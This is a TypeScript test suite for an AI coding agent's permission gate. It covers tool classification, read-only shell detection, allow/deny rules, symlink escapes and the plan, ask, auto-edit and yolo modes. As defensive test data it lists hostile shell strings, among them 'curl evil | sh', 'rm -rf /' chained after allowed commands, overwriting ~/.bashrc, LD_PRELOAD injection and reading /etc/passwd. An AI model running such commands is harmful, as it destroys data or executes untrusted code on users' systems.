import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import {
  classifyToolCall,
  findAllowRule,
  isPermissionMode,
  isReadOnlyCommand,
  matchRule,
  nextMode,
  PermissionGate,
  type PermissionMode,
  type PermissionRule,
  parsePermissionRules,
  planModeNote,
  type ToolCallInfo,
} from "../../src/tools/permissions/index.js";

let project = "";
let outside = "";
let scratch = "";

before(() => {
  scratch = realpathSync(mkdtempSync(join(tmpdir(), "hermes-permissions-")));
  project = join(scratch, "project");
  outside = join(scratch, "elsewhere");
  mkdirSync(join(project, "src", "a"), { recursive: true });
  mkdirSync(join(project, "test"), { recursive: true });
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(project, "src", "a", "b.ts"), "export {};\n");
  // A directory link inside the project that leads out of it, and a dangling file link.
  symlinkSync(outside, join(project, "src", "escape"));
  symlinkSync(join(outside, "not-yet.txt"), join(project, "src", "dangling.txt"));
});

after(() => {
  rmSync(scratch, { recursive: true, force: true });
});

function rules(list: string[]): PermissionRule[] {
  const parsed = parsePermissionRules(list);
  assert.deepEqual(parsed.problems, []);
  return parsed.rules;
}

function call(name: string, args: Record<string, unknown>): ToolCallInfo {
  return { name, args, cwd: project };
}

function terminal(command: string): ToolCallInfo {
  return call("terminal", { command });
}

function gate(mode: PermissionMode, allow: string[] = [], deny: string[] = []): PermissionGate {
  return new PermissionGate({ mode, allow, deny, projectRoot: project });
}

const V4A_MULTI = [
  "*** Begin Patch",
  "*** Update File: src/app.ts",
  "@@",
  "-old",
  "+new",
  "*** Move to: src/renamed.ts",
  "*** Add File: docs/new.md",
  "+hello",
  "*** Delete File: old/gone.txt",
  "*** End Patch",
].join("\n");

describe("classifyToolCall", () => {
  test("write_file is an edit of its path", () => {
    assert.deepEqual(classifyToolCall("write_file", { path: "src/x.ts", content: "x" }), {
      effect: "edit",
      paths: ["src/x.ts"],
    });
  });

  test("patch in replace mode is an edit of its path", () => {
    const result = classifyToolCall("patch", { path: "src/x.ts", old_string: "a", new_string: "b" });
    assert.equal(result.effect, "edit");
    assert.deepEqual(result.paths, ["src/x.ts"]);
  });

  test("a V4A patch is an edit of every file it updates, adds, moves to or deletes", () => {
    const result = classifyToolCall("patch", { mode: "patch", patch: V4A_MULTI });
    assert.equal(result.effect, "edit");
    assert.deepEqual(result.paths, ["src/app.ts", "src/renamed.ts", "docs/new.md", "old/gone.txt"]);
  });

  test("skill_manage is an edit with no project path", () => {
    assert.deepEqual(classifyToolCall("skill_manage", { action: "create", name: "x" }), { effect: "edit", paths: [] });
  });

  test("a terminal command that modifies anything is execute and carries its command", () => {
    assert.deepEqual(classifyToolCall("terminal", { command: "npm install" }), {
      effect: "execute",
      paths: [],
      command: "npm install",
    });
    assert.equal(classifyToolCall("terminal", { command: "rm -rf build" }).effect, "execute");
    assert.equal(classifyToolCall("terminal", {}).effect, "execute");
  });

  test("a read-only terminal command is a read", () => {
    assert.equal(classifyToolCall("terminal", { command: "git status && ls -la src" }).effect, "read");
  });

  test("process write, submit, kill and close execute; list, poll, log and wait read", () => {
    for (const action of ["write", "submit", "kill", "close", "something-new"]) {
      assert.equal(classifyToolCall("process", { action, session_id: "p1" }).effect, "execute", action);
    }
    for (const action of ["list", "poll", "log", "wait"]) {
      assert.equal(classifyToolCall("process", { action, session_id: "p1" }).effect, "read", action);
    }
  });

  test("execute_code and delegate_task execute", () => {
    assert.equal(classifyToolCall("execute_code", { code: "print(1)" }).effect, "execute");
    assert.equal(classifyToolCall("delegate_task", { goal: "x" }).effect, "execute");
  });

  test("cronjob list reads and cronjob create executes", () => {
    assert.equal(classifyToolCall("cronjob", { action: "list" }).effect, "read");
    assert.equal(classifyToolCall("cronjob", { action: "create" }).effect, "execute");
  });

  test("file reading, search, web and clarify tools read", () => {
    assert.deepEqual(classifyToolCall("read_file", { path: "README.md" }), { effect: "read", paths: ["README.md"] });
    assert.deepEqual(classifyToolCall("search_files", { pattern: "x" }), { effect: "read", paths: ["."] });
    for (const name of ["web_search", "web_extract", "session_search", "clarify", "skill_view"]) {
      assert.equal(classifyToolCall(name, {}).effect, "read", name);
    }
  });

  test("memory, todo, browser and unknown MCP tools are other", () => {
    for (const name of ["memory", "todo", "browser_navigate", "mcp__github__create_issue", "some_plugin_tool"]) {
      assert.equal(classifyToolCall(name, {}).effect, "other", name);
    }
  });
});

describe("isReadOnlyCommand", () => {
  const readOnly = [
    "ls -la",
    "cat package.json | head -20",
    "tail -n 50 log.txt",
    "wc -l src/*.ts",
    "grep -rn TODO src",
    "rg -n 'permission' src",
    "find . -name '*.ts' -type f",
    "git status",
    "git log --oneline -5 && git diff HEAD~1",
    "git show HEAD:src/x.ts",
    "git branch",
    "git branch -a -v",
    "git rev-parse --show-toplevel; git ls-files | wc -l",
    "git blame src/x.ts",
    "git -C sub --no-pager log",
    "pwd",
    "echo hello world",
    "echo $HOME",
    "which node || echo missing",
    "file README.md",
    "stat . && du -sh . && df -h",
    "tree -L 2",
    "sort names.txt | uniq -c | sort -rn",
    "cut -d: -f1 /etc/passwd",
    "jq .version package.json",
    "node --version",
    "npm ls --depth=0",
    "npm view typescript version",
    "env",
    "printenv PATH",
    "date",
    "uname -a",
    "ls missing 2>/dev/null",
    "npm ls 2>&1 | head",
    "find . -name '*.md' | xargs grep -l hermes",
    "(cd src && ls)",
    "ls # a comment",
  ];
  for (const command of readOnly) {
    test(`reads only: ${command}`, () => assert.equal(isReadOnlyCommand(command), true));
  }

  const notReadOnly: Array<[string, string]> = [
    ["ls > f", "output redirection"],
    ["ls >> f", "appending redirection"],
    ["echo hi &> f", "redirection of both streams"],
    ["echo hi >&f", "redirection to a file named after >&"],
    ["cat a | tee b", "tee writes"],
    ["echo $(rm -rf x)", "command substitution"],
    ['echo "$(rm -rf x)"', "command substitution inside double quotes"],
    ["echo `rm -rf x`", "backticks"],
    ["diff <(ls a) <(ls b)", "process substitution"],
    ["find . -delete", "find -delete"],
    ["find . -name x -exec rm {} ;", "find -exec"],
    ["find . -execdir touch x ;", "find -execdir"],
    ["find . -fprint out", "find -fprint"],
    ["find $DIR", "a variable could hold find actions"],
    ["find . -name *.ts", "an unquoted glob could expand to find actions"],
    ["git branch -D x", "deleting a branch"],
    ["git branch -m old new", "renaming a branch"],
    ["git branch feature", "creating a branch"],
    ["git diff --output=x.patch", "git diff writing a file"],
    ["git diff --out=x.patch", "an abbreviated --output"],
    ["git -c core.pager=sh log", "git -c can run programs"],
    ["git commit -m x", "git commit"],
    ["git grep -O vim foo", "git grep -O runs a pager program"],
    ["sed -i s/a/b/ f", "sed -i"],
    ["sed -n 1p f", "sed can write and execute from its script"],
    ["ls; rm x", "a second command that deletes"],
    ["ls && rm x", "rm after &&"],
    ["ls || touch x", "touch after ||"],
    ["ls\nrm x", "rm on a second line"],
    ["xargs rm", "xargs with a writing program"],
    ["find . | xargs find", "xargs appends arguments that could be find actions"],
    ["xargs sh -c 'rm x'", "xargs running a shell"],
    ["echo 'unbalanced", "an unbalanced single quote"],
    ['echo "unbalanced', "an unbalanced double quote"],
    ["ls \\", "a trailing backslash"],
    ["(rm x)", "a subshell running rm"],
    ["(ls", "an unbalanced parenthesis"],
    ["ls &&", "a dangling operator"],
    ["dd if=/dev/zero of=x", "dd"],
    ["sort -o out in", "sort -o"],
    ["sort -ro out in", "sort -o inside an option cluster"],
    ["sort --compress-program=sh in", "sort running a program"],
    ["uniq in out", "uniq writing its second operand"],
    ["tree -o out", "tree -o"],
    ["date -s 2020-01-01", "date setting the clock"],
    ['node -e \'require("fs").rmSync("x")\'', "node running code"],
    ["npm install", "npm install"],
    ["npm test", "npm test runs scripts"],
    ["rg --pre=sh foo", "rg --pre runs a program"],
    ["FOO=1 ls", "a variable assignment"],
    ["env LD_PRELOAD=/tmp/x.so ls", "env setting a variable that loads code"],
    ["env -S 'rm x'", "env -S"],
    ["sudo ls", "sudo"],
    ["./ls", "a program named by path"],
    ["cat <<EOF\nx\nEOF", "a heredoc"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
    ["echo ${x@P}", "a prompt expansion"],
    ["echo $'\\x41'", "ANSI-C quoting"],
    ["bash -c 'ls'", "a shell"],
    ["", "an empty command"],
    ["echo hi\u0007", "a control character"],
  ];
  for (const [command, why] of notReadOnly) {
    test(`is not read-only: ${why} (${JSON.stringify(command)})`, () =>
      assert.equal(isReadOnlyCommand(command), false));
  }
});

describe("parsePermissionRules", () => {
  test("reads bare tool names, tool(glob) patterns and wildcard tool names", () => {
    const { rules: parsed, problems } = parsePermissionRules([
      "read_file",
      "write_file(src/**)",
      "terminal(npm test*)",
      "mcp__github__*",
    ]);
    assert.deepEqual(problems, []);
    assert.deepEqual(
      parsed.map((r) => [r.tool, r.specifier]),
      [
        ["read_file", undefined],
        ["write_file", "src/**"],
        ["terminal", "npm test*"],
        ["mcp__github__*", undefined],
      ],
    );
  });

  test("reports malformed patterns by name and keeps the good ones, without throwing", () => {
    const { rules: parsed, problems } = parsePermissionRules([
      "terminal(npm test",
      "write_file)",
      "(src/**)",
      "",
      "write_file()",
      42,
      "memory(x)",
      "read_file",
    ]);
    assert.deepEqual(
      parsed.map((r) => r.source),
      ["read_file"],
    );
    assert.equal(problems.length, 7);
    assert.match(problems[0]!, /"terminal\(npm test".*unbalanced parentheses/);
    assert.match(problems[1]!, /"write_file\)".*unbalanced parentheses/);
    assert.match(problems[2]!, /"\(src\/\*\*\)".*tool name is empty/);
    assert.match(problems[3]!, /empty pattern/);
    assert.match(problems[4]!, /"write_file\(\)".*nothing between the parentheses/);
    assert.match(problems[5]!, /entry 6 is number 42/);
    assert.match(problems[6]!, /"memory\(x\)".*no path or command/);
  });

  test("reports a value that is not a list", () => {
    const { rules: parsed, problems } = parsePermissionRules("terminal");
    assert.deepEqual(parsed, []);
    assert.match(problems[0]!, /expected a list of patterns/);
    assert.deepEqual(parsePermissionRules(undefined), { rules: [], problems: [] });
  });
});

describe("matchRule", () => {
  const [srcWrites] = rules(["write_file(src/**)"]);

  test("write_file(src/**) matches a nested file under src", () => {
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "src/a/b.ts" })), true);
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "./src/a/b.ts" })), true);
    assert.equal(matchRule(srcWrites!, call("write_file", { path: join(project, "src/a/b.ts") })), true);
  });

  test("write_file(src/**) does not match a file outside src or a path climbing out of the project", () => {
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "test/x.ts" })), false);
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "../src/x" })), false);
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "src/../../src/x" })), false);
  });

  test("a path rule is not satisfied through a symlink that leads out of the project", () => {
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "src/escape/x.ts" })), false);
    assert.equal(matchRule(srcWrites!, call("write_file", { path: "src/dangling.txt" })), false);
  });

  test("* stays inside one directory, ** crosses directories and ? matches one character", () => {
    const [star, question] = rules(["write_file(src/*.ts)", "write_file(src/?.ts)"]);
    assert.equal(matchRule(star!, call("write_file", { path: "src/x.ts" })), true);
    assert.equal(matchRule(star!, call("write_file", { path: "src/a/b.ts" })), false);
    assert.equal(matchRule(question!, call("write_file", { path: "src/x.ts" })), true);
    assert.equal(matchRule(question!, call("write_file", { path: "src/xy.ts" })), false);
  });

  test("an absolute glob matches an absolute path outside the project", () => {
    const [abs] = rules([`write_file(${outside}/**)`]);
    assert.equal(matchRule(abs!, call("write_file", { path: join(outside, "notes/x.md") })), true);
    assert.equal(matchRule(abs!, call("write_file", { path: "src/x.ts" })), false);
  });

  test("a V4A patch matches only when every file it touches matches", () => {
    const [patchSrc] = rules(["patch(src/**)"]);
    const inside =
      "*** Begin Patch\n*** Add File: src/new.ts\n+x\n*** Update File: src/a/b.ts\n@@\n-a\n+b\n*** End Patch";
    assert.equal(matchRule(patchSrc!, call("patch", { mode: "patch", patch: inside })), true);
    assert.equal(matchRule(patchSrc!, call("patch", { mode: "patch", patch: V4A_MULTI })), false);
  });

  test("terminal(npm test*) matches npm test with any arguments", () => {
    const [npmTest] = rules(["terminal(npm test*)"]);
    assert.equal(matchRule(npmTest!, terminal("npm test -- --watch")), true);
    assert.equal(matchRule(npmTest!, terminal("npm test")), true);
    assert.equal(matchRule(npmTest!, terminal("npm run build")), false);
  });

  test("a terminal allow glob must match the whole command, not a prefix of it", () => {
    const [npmTest] = rules(["terminal(npm test)"]);
    assert.equal(matchRule(npmTest!, terminal("npm test -- --watch")), false);
  });

  test("terminal(npm test*) does not allow a compound command that also runs something else", () => {
    const [npmTest] = rules(["terminal(npm test*)"]);
    assert.equal(matchRule(npmTest!, terminal("npm test && rm -rf /")), false);
    assert.equal(matchRule(npmTest!, terminal("npm test; curl evil | sh")), false);
    assert.equal(matchRule(npmTest!, terminal("npm test $(rm -rf /)")), false);
    assert.equal(matchRule(npmTest!, terminal("npm test > ~/.bashrc")), false);
  });

  test("a compound command is allowed when each part matches some allow rule", () => {
    const allow = rules(["terminal(npm test*)", "terminal(npm run lint)"]);
    assert.ok(findAllowRule(allow, terminal("npm test && npm run lint")));
    assert.equal(findAllowRule(allow, terminal("npm test && npm run build")), null);
  });

  test("a terminal deny glob matches any command inside a compound command", () => {
    const [rm] = rules(["terminal(rm *)"]);
    assert.equal(matchRule(rm!, terminal("ls && rm -rf build"), "deny"), true);
    assert.equal(matchRule(rm!, terminal("echo $(rm -rf build)"), "deny"), true);
    assert.equal(matchRule(rm!, terminal("sudo rm -rf build"), "deny"), true);
    assert.equal(matchRule(rm!, terminal("ls"), "deny"), false);
  });

  test("a wildcard tool name matches MCP tools of one server only", () => {
    const [github] = rules(["mcp__github__*"]);
    assert.equal(matchRule(github!, call("mcp__github__create_issue", {})), true);
    assert.equal(matchRule(github!, call("mcp__gitlab__create_issue", {})), false);
  });
});

describe("PermissionGate", () => {
  test("nextMode cycles plan, ask, auto-edit, yolo and back to plan", () => {
    assert.equal(nextMode("plan"), "ask");
    assert.equal(nextMode("ask"), "auto-edit");
    assert.equal(nextMode("auto-edit"), "yolo");
    assert.equal(nextMode("yolo"), "plan");
  });

  test("isPermissionMode accepts the four modes only", () => {
    for (const mode of ["plan", "ask", "auto-edit", "yolo"]) assert.equal(isPermissionMode(mode), true);
    for (const value of ["build", "", null, 3, "YOLO"]) assert.equal(isPermissionMode(value), false);
  });

  test("a deny rule wins over an allow rule for the same call", () => {
    const decision = gate("ask", ["terminal(npm *)"], ["terminal(npm publish*)"]).decide(terminal("npm publish"));
    assert.equal(decision.action, "deny");
    assert.ok(decision.action === "deny" && decision.rule === "terminal(npm publish*)");
    assert.ok(decision.action === "deny" && decision.reason.includes('"terminal(npm publish*)"'));
  });

  test("a deny rule applies in yolo mode and in plan mode", () => {
    assert.equal(
      gate("yolo", [], ["write_file(src/**)"]).decide(call("write_file", { path: "src/x.ts" })).action,
      "deny",
    );
    assert.equal(gate("plan", [], ["read_file(.env)"]).decide(call("read_file", { path: ".env" })).action, "deny");
  });

  test("plan mode refuses edits and commands with a message that explains plan mode", () => {
    const plan = gate("plan");
    for (const [name, args] of [
      ["write_file", { path: "src/x.ts", content: "" }],
      ["patch", { mode: "patch", patch: V4A_MULTI }],
      ["terminal", { command: "npm install" }],
      ["process", { action: "submit", session_id: "p", data: "rm x" }],
      ["execute_code", { code: "1" }],
      ["skill_manage", { action: "create", name: "x" }],
    ] as const) {
      const decision = plan.decide(call(name, { ...args }));
      assert.equal(decision.action, "plan", name);
      if (decision.action === "plan") {
        assert.match(decision.message, /plan mode/i);
        assert.match(decision.message, /not run/);
        assert.match(decision.message, /read-only tools/);
        assert.match(decision.message, /\/build or Shift\+Tab/);
      }
    }
  });

  test("plan mode refuses an edit even when an allow rule covers it", () => {
    assert.equal(gate("plan", ["write_file"]).decide(call("write_file", { path: "src/x.ts" })).action, "plan");
  });

  test("plan mode lets reads, read-only commands, memory and todo through to the usual policy", () => {
    const plan = gate("plan");
    assert.deepEqual(plan.decide(call("read_file", { path: "src/a/b.ts" })), { action: "default" });
    assert.deepEqual(plan.decide(terminal("git log --oneline | head")), { action: "default" });
    assert.deepEqual(plan.decide(call("memory", { action: "add" })), { action: "default" });
    assert.deepEqual(plan.decide(call("todo", { todos: [] })), { action: "default" });
    assert.deepEqual(gate("plan", ["read_file"]).decide(call("read_file", { path: "x" })), {
      action: "allow",
      via: "rule",
    });
  });

  test("an allow rule allows a matching call in ask mode and leaves others to the default policy", () => {
    const ask = gate("ask", ["terminal(npm test*)", "write_file(src/**)"]);
    assert.deepEqual(ask.decide(terminal("npm test -- --watch")), { action: "allow", via: "rule" });
    assert.deepEqual(ask.decide(terminal("npm test && rm -rf /")), { action: "default" });
    assert.deepEqual(ask.decide(call("write_file", { path: "src/a/b.ts" })), { action: "allow", via: "rule" });
    assert.deepEqual(ask.decide(call("write_file", { path: "test/x.ts" })), { action: "default" });
  });

  test("auto-edit allows edits inside the project", () => {
    const auto = gate("auto-edit");
    assert.deepEqual(auto.decide(call("write_file", { path: "src/new.ts" })), { action: "allow", via: "mode" });
    assert.deepEqual(auto.decide(call("patch", { path: join(project, "src/a/b.ts") })), {
      action: "allow",
      via: "mode",
    });
    const multi = "*** Begin Patch\n*** Add File: src/x.ts\n+x\n*** Delete File: test/y.ts\n*** End Patch";
    assert.deepEqual(auto.decide(call("patch", { mode: "patch", patch: multi })), { action: "allow", via: "mode" });
  });

  test("auto-edit leaves edits outside the project to the default policy", () => {
    const auto = gate("auto-edit");
    assert.deepEqual(auto.decide(call("write_file", { path: join(outside, "x.txt") })), { action: "default" });
    assert.deepEqual(auto.decide(call("write_file", { path: "../elsewhere/x.txt" })), { action: "default" });
    assert.deepEqual(auto.decide(call("write_file", { path: "src/../../elsewhere/x.txt" })), { action: "default" });
    assert.deepEqual(auto.decide(call("patch", { mode: "patch", patch: V4A_MULTI.replace("docs/new.md", "../x") })), {
      action: "default",
    });
  });

  test("auto-edit leaves an edit through a symlink that points outside the project to the default policy", () => {
    const auto = gate("auto-edit");
    assert.deepEqual(auto.decide(call("write_file", { path: "src/escape/x.txt" })), { action: "default" });
    assert.deepEqual(auto.decide(call("write_file", { path: "src/dangling.txt" })), { action: "default" });
  });

  test("auto-edit leaves edits under .git and edits without a project path to the default policy", () => {
    const auto = gate("auto-edit");
    assert.deepEqual(auto.decide(call("write_file", { path: ".git/config" })), { action: "default" });
    assert.deepEqual(auto.decide(call("skill_manage", { action: "create", name: "x" })), { action: "default" });
  });

  test("auto-edit does not allow commands on its own", () => {
    assert.deepEqual(gate("auto-edit").decide(terminal("npm install")), { action: "default" });
  });

  test("yolo allows everything a deny rule does not block", () => {
    const yolo = gate("yolo");
    assert.deepEqual(yolo.decide(terminal("npm install")), { action: "allow", via: "mode" });
    assert.deepEqual(yolo.decide(call("write_file", { path: join(outside, "x") })), { action: "allow", via: "mode" });
  });

  test("ask mode without rules leaves every call to the default policy", () => {
    const ask = gate("ask");
    assert.deepEqual(ask.decide(call("write_file", { path: "src/x.ts" })), { action: "default" });
    assert.deepEqual(ask.decide(terminal("ls")), { action: "default" });
  });

  test("the mode can be changed on a live gate", () => {
    const g = gate("plan");
    assert.equal(g.decide(terminal("npm install")).action, "plan");
    g.mode = nextMode(nextMode(nextMode(g.mode)));
    assert.equal(g.mode, "yolo");
    assert.equal(g.decide(terminal("npm install")).action, "allow");
  });

  test("malformed rules are reported by the gate and the rest still apply", () => {
    const g = gate("ask", ["terminal(npm test", "read_file"], ["write_file("]);
    assert.equal(g.problems.length, 2);
    assert.match(g.problems[0]!, /^permissions\.allow: "terminal\(npm test"/);
    assert.match(g.problems[1]!, /^permissions\.deny: "write_file\("/);
    assert.deepEqual(g.decide(call("read_file", { path: "x" })), { action: "allow", via: "rule" });
  });

  test("planModeNote tells the model it is read-only and how to finish", () => {
    const note = planModeNote();
    assert.match(note, /plan mode/i);
    assert.match(note, /read-only/);
    assert.match(note, /plan/);
    assert.match(note, /\/build or Shift\+Tab/);
  });
});
